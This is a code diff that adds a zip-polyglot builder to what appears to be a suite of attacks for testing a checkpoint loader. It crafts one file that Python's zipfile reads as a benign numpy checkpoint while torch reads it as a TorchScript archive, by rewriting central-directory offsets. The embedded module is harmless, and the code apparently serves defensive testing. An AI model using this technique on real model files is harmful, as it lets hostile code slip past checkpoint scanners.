@@ -222,3 +222,56 @@ ATTACKS = {
     'history_buffer_state_shared': history_buffer_state_shared,
     'huge_empty_array': huge_empty_array,
 }
+
+
+# ------------------------------------------------------------- zip polyglot
+def _zip_parts(data: bytes):
+    """(local part, central directory, entries) of a zip without a comment."""
+    eocd = data.rfind(b'PK\x05\x06')
+    entries, cd_size, cd_offset = struct.unpack('<HII', data[eocd + 10:eocd + 20])
+    return data[:cd_offset], data[cd_offset:cd_offset + cd_size], entries
+
+
+def torchscript_numpy_polyglot(path) -> str:
+    """One file, two archives: Python's ``zipfile`` reads a numpy-format checkpoint
+    (no ``constants.pkl``), torch's reader reads a TorchScript archive.
+
+    Layout: TorchScript archive B, then checkpoint A, then an end record whose
+    central-directory offset points at B's directory. torch (miniz) takes the
+    offset as it is; Python re-bases it as if data were prepended and lands on
+    A's directory, whose entries are re-based to match.
+    """
+    import io
+
+    import numpy as np
+    scripted = io.BytesIO()
+    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 1)), scripted)
+    b_local, b_cd, b_entries = _zip_parts(scripted.getvalue())
+    honest = io.BytesIO()
+    torch.save({'meta': {'iter': 1}, 'x': np.float64(1.5)}, honest)  # numpy inside
+    with zipfile.ZipFile(honest) as src:
+        records = [(info.filename, src.read(info.filename)) for info in src.infolist()]
+    prefix = records[0][0].split('/')[0]
+    records += [(f'{prefix}/pad{k}', b'') for k in range(b_entries - len(records))]
+    assert len(records) == b_entries
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, 'w', zipfile.ZIP_STORED) as dst:
+        for name, data in records:
+            info = zipfile.ZipInfo(name)
+            info.comment = b'c' * (len(b_cd) // b_entries + 64)  # A's directory >= B's
+            dst.writestr(info, data)
+    a_local, a_cd, _ = _zip_parts(buffer.getvalue())
+    assert len(b_local) >= len(a_local) and len(a_cd) >= len(b_cd)
+    a_start = len(b_local) + len(b_cd)
+    rebase = a_start + len(a_local) - len(b_local)
+    directory, at = bytearray(a_cd), 0
+    while at < len(directory):
+        name_len, extra_len, comment_len = struct.unpack('<HHH', directory[at + 28:at + 34])
+        offset, = struct.unpack('<I', directory[at + 42:at + 46])
+        struct.pack_into('<I', directory, at + 42, a_start + offset - rebase)
+        at += 46 + name_len + extra_len + comment_len
+    end = struct.pack('<4sHHHHIIH', b'PK\x05\x06', 0, 0, b_entries, b_entries,
+                      len(directory), len(b_local), 0)
+    with open(path, 'wb') as f:
+        f.write(b_local + b_cd + a_local + bytes(directory) + end)
+    return str(path)
